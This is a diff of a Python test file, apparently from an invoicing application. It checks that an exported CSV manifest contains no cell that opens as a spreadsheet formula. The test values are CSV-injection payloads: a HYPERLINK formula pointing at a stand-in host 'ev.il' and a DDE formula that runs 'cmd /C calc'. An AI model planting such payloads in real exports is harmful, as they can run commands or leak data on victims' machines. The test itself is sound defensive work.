@@ -114,7 +114,7 @@ def test_numbers_made_safe_alike_keep_one_file_each_named_by_the_manifest(
             [i.number for i in invoices] * 2)
 
 
-HOSTILE = '=HYPERLINK("http://ev.il/"&B2,"ok")'
+HOSTILE = '=HYPERLINK("ev.il",1);x;=cmd|\' /C calc\'!A0'
 
 
 def test_no_cell_of_the_manifest_opens_as_a_formula_and_every_value_round_trips(
@@ -132,6 +132,9 @@ def test_no_cell_of_the_manifest_opens_as_a_formula_and_every_value_round_trips(
     client.force_login(user_with(roles.FINANCE, registered_account))
     with _zip_of(client, {"date_from": "2026-03-01", "date_to": "2026-03-31"}) as z:
         text = z.read("manifest.csv").decode()
+    from tests.core.test_text import formula_cells
+
+    assert formula_cells(text) == []  # opened splitting on "," or on ";"
     rows = list(csv.reader(io.StringIO(text)))
     header, body = rows[0], rows[1:]
     numeric = {"invoice_id", "subtotal", "tax_amount", "total", "submission_round"}
